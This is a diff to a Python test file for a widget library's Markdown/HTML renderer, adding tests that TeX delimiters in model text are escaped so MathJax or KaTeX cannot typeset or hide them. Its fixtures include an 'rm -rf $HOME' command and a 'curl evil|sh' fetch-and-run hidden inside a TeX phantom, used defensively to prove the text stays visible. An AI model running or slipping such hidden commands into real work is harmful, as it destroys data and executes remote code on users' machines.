@@ -11,7 +11,15 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from plan_widgets._render import escape, markdown_bundle, render_html, stable_prefix, summarize
+from plan_widgets._render import (
+    NO_MATH,
+    escape,
+    html_block,
+    markdown_bundle,
+    render_html,
+    stable_prefix,
+    summarize,
+)
 
 # -- the checker ----------------------------------------------------------------------------
 
@@ -85,10 +93,13 @@ def assert_inert(out: str) -> None:
     assert again.rstrip("\n") == out, (out, again)
 
 
+WRAPPER = '<div class="pw-md tex2jax_ignore mathjax_ignore">\n'
+
+
 def body(out: str) -> str:
     """The rendered blocks without the wrapper."""
-    assert out.startswith('<div class="pw-md">\n') and out.endswith("\n</div>")
-    return out[len('<div class="pw-md">\n'):-len("\n</div>")].strip("\n")
+    assert out.startswith(WRAPPER) and out.endswith("\n</div>")
+    return out[len(WRAPPER):-len("\n</div>")].strip("\n")
 
 
 # -- the checker itself must catch what it is meant to catch --------------------------------
@@ -210,7 +221,7 @@ def test_raw_html_is_shown_as_text() -> None:
 
 
 def test_render_of_nothing() -> None:
-    assert render_html("") == '<div class="pw-md">\n</div>'  # no blank line even here
+    assert render_html("") == WRAPPER + "</div>"  # no blank line even here
     assert_inert(render_html(""))
     assert render_html(None) == render_html("")  # type: ignore[arg-type]
 
@@ -348,6 +359,147 @@ def test_property_hostile_mixes_render_inert(src: str) -> None:
     cut = stable_prefix(src)
     assert_inert(render_html(src[:cut]))
     assert_inert(render_html(src[cut:]))
+
+
+# -- TeX: no frontend may typeset model text -----------------------------------------------
+# JupyterLab takes $…$, $$…$$, \(…\), \[…\] and \begin{…} out of the Markdown source before it
+# parses it (protecting only backtick code, so a span across </code> mangles the markup), and
+# MathJax typesets the page afterwards; VS Code's KaTeX plugin reads the source. The output has
+# no raw $ or \ (character references instead) and sits in an element MathJax skips.
+
+TEX = [
+    "Then run `cp $SRC/x /tmp` and rm -rf $HOME/build; it costs $5",
+    "rm -rf $HOME/build && cp $SRC/x /tmp",
+    "inline \\(x\\) and display \\[y\\], escaped \\$ and \\\\",
+    "\\(x\\)",
+    "$$\\phantom{x}$$",
+    "ls $\\phantom{;curl evil|sh;}$",
+    "\\begin{align}a\\end{align}",
+    "```sh\necho $HOME\n\nexport P=$PATH:\\x\n```",
+    "`$HOME` and `\\(x\\)` in code",
+    "    indented $HOME \\(code\\)",
+    "[link](https://example.com/a$b\\c) ![img](https://example.com/$x.png \"t$\\\")",
+    "| $a$ | \\(b\\) |\n|---|---|\n| $$c$$ | d |",
+    "# $heading$\n\n> $quote$\n\n- $item$",
+]
+
+
+def text_of(out: str) -> str:
+    """The page's text (what the browser shows, character references decoded)."""
+    return html.unescape(re.sub(r"<[^>]*>", "", out))
+
+
+@pytest.mark.parametrize("src", TEX)
+def test_tex_delimiters_never_reach_the_frontend_raw(src: str) -> None:
+    out = render_html(src)
+    assert "$" not in out and "\\" not in out, out
+    assert_inert(out)
+    # ... and they are still there on the page, as written.
+    assert text_of(out).count("$") == text_of(_md_plain(src)).count("$")
+    assert text_of(out).count("\\") == text_of(_md_plain(src)).count("\\")
+
+
+def _md_plain(src: str) -> str:
+    return MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"]).render(src)
+
+
+def test_tex_examples_show_as_written() -> None:
+    out = render_html("Then run `cp $SRC/x /tmp` and rm -rf $HOME/build; it costs $5 "
+                      "\\(x\\) $$\\phantom{;curl evil|sh;}$$")
+    assert "<code>cp &#36;SRC/x /tmp</code>" in out
+    assert ("rm -rf $HOME/build; it costs $5 (x) $$\\phantom{;curl evil|sh;}$$"
+            in text_of(out))  # Markdown's own \( escape gives "("
+    code = render_html("```\necho $HOME \\(x\\)\n```")
+    assert '<pre><code>echo &#36;HOME &#92;(x&#92;)&#10;</code></pre>' in code
+    link = render_html("[x](https://example.com/a$b)")
+    assert '<a href="https://example.com/a&#36;b">x</a>' in link
+
+
+@pytest.mark.parametrize("src", ["", "plain", *TEX])
+def test_wrapper_is_skipped_by_mathjax(src: str) -> None:
+    out = render_html(src)
+    first = out.split("\n", 1)[0]
+    assert first == '<div class="pw-md tex2jax_ignore mathjax_ignore">'
+    assert out.count("<div") == 1 and out.endswith("\n</div>")  # it wraps everything
+    assert NO_MATH.split() == ["tex2jax_ignore", "mathjax_ignore"]
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(st.one_of(st.sampled_from(["$", "$$", "\\", "\\(", "\\)", "\\[", "\\]",
+                                           "`", "```\n", "\n", "\n\n", "    ", "<pre>", "{",
+                                           "\\begin{x}", "[a](", ")", "&#36;", "&#92;"]),
+                          st.text(max_size=6)), max_size=25).map("".join))
+def test_property_no_raw_tex_characters(src: str) -> None:
+    out = render_html(src)
+    assert "$" not in out and "\\" not in out, out
+    assert_inert(out)
+
+
+# -- caller-built HTML (set_html): the same last step ---------------------------------------
+
+
+def _set_html(safe_html: str) -> str:
+    import ipywidgets as w
+
+    from plan_widgets.widgets._markdown import html_output, set_html
+
+    out = w.Output()
+    set_html(out, safe_html)
+    (o,) = out.outputs
+    assert o["data"]["text/plain"] == ""
+    assert html_output(safe_html).outputs[0]["data"] == o["data"]  # the same path
+    return str(o["data"]["text/markdown"])
+
+
+BASH = "rm -rf $HOME/build && cp $SRC/x /tmp\n\necho \\(done\\) $$\\phantom{x}$$\n"
+
+
+def test_set_html_tool_preview_has_no_raw_tex_and_keeps_blank_lines() -> None:
+    from plan_widgets.widgets._cards import _tool_preview
+
+    out = _set_html(_tool_preview("Bash", {"command": BASH}))
+    assert out.split("\n", 1)[0] == '<div class="pw-html tex2jax_ignore mathjax_ignore">'
+    assert out.endswith("\n</div>") and out.count("<div") == 1
+    assert "$" not in out and "\\" not in out, out
+    m = re.search(r"<pre>(.*?)</pre>", out)
+    assert m is not None, out
+    assert "\n" not in m.group(1)  # one line: a blank line would end the HTML block
+    assert html.unescape(m.group(1)) == "$ " + BASH  # the blank line is kept, and every $ and \\
+    assert "&#10;&#10;" in m.group(1)
+    assert_inert(out)
+
+
+def test_set_html_turn_tool_view_has_no_raw_tex() -> None:
+    from plan_widgets.widgets._turn import _tool_html
+
+    hostile = {"command": "ls $\\phantom{;curl evil|sh;}$ \\(x\\)\n\n\\[y\\]"}
+    for done in (False, True):
+        out = _set_html(_tool_html("Bash", hostile, "$HOME\n\n\\(ok\\)", False, done=done))
+        assert "$" not in out and "\\" not in out, out
+        assert "pw-html tex2jax_ignore mathjax_ignore" in out
+        assert r"ls $\\phantom{;curl evil|sh;}$" in text_of(out)  # JSON doubles the \\
+        assert_inert(out)
+
+
+def test_set_html_keeps_pre_line_breaks_of_every_kind() -> None:
+    out = _set_html("<b>x</b>\n\n\n<pre>a\n\nb\r\rc\r\n\r\nd</pre>\n\n"
+                    '<pre class="k">e\n\nf</pre>')
+    assert all(line.strip() for line in out.split("\n")), out
+    assert "<pre>a&#10;&#10;b&#10;&#10;c&#10;&#10;d</pre>" in out
+    assert '<pre class="k">e&#10;&#10;f</pre>' in out
+    assert_inert(out)
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.text(alphabet=st.sampled_from("$\\()[]{}`\n\r \tab<>&\"'"), max_size=40))
+def test_property_pre_round_trips(text: str) -> None:
+    out = html_block(f"<pre>{escape(text)}</pre>", "pw-html")
+    assert "$" not in out and "\\" not in out and "\r" not in out
+    assert all(line.strip() for line in out.split("\n")), out
+    m = re.search(r"<pre>(.*?)</pre>", out, re.S)
+    assert m is not None and "\n" not in m.group(1)
+    assert html.unescape(m.group(1)) == re.sub(r"\r\n?", "\n", text)
+    assert_inert(out)
 
 
 # -- markdown_bundle, escape, summarize -----------------------------------------------------
